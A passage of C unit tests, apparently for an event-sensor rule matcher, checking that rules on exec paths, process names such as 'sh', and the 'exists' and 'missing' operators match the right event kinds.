	cr_assert_eq(match_one(RULE(" exec.path contains sbin\n"), SENSOR_KIND_EXEC, usr), 0);
	/* a rule of one kind never matches an event of another that has its fields */
	cr_assert_eq(match_one(RULE(" kind = exec\n process.comm = sh\n"), SENSOR_KIND_EXEC, sh), 1);
	cr_assert_eq(match_one(RULE(" kind = exec\n process.comm = sh\n"), SENSOR_KIND_FILE, sh), 0);
	/* exists and missing */
	cr_assert_eq(match_one(RULE(" process.comm exists\n"), SENSOR_KIND_EXEC, sh), 1);
	cr_assert_eq(match_one(RULE(" process.comm missing\n"), SENSOR_KIND_EXEC, sh), 0);
	cr_assert_eq(match_one(RULE(" exec.cwd missing\n"), SENSOR_KIND_EXEC, sh), 1);
}
